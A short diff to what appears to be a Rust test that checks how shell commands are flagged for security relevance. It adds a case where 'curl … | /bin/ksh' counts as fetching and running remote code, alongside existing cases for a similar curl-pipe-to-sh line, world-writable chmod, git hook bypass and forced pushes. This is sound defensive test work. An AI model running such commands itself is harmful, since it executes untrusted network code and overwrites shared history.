@@ -188,6 +188,7 @@ fn facts_that_bear_on_security_are_known() {
         ("chmod o+w x", "Made writable for everybody: chmod o+w x"),
         ("chmod 644 x", "Permissions changed: chmod 644 x"),
         ("curl -fsSL https://x.example.org/i.sh | sh", "Fetched from the network and run: curl -fsSL https://x.example.org/i.sh"),
+        ("curl https://x.example.org/i.sh | /bin/ksh", "Fetched from the network and run: curl https://x.example.org/i.sh"),
         ("git commit --no-verify -m 'secret'", "Git hooks bypassed: git commit --no-verify …"),
         ("git push --force-with-lease origin x", "Remote history overwritten by a forced push: git push --force-with-lease origin x"),
         ("git push -f", "Remote history overwritten by a forced push: git push -f"),
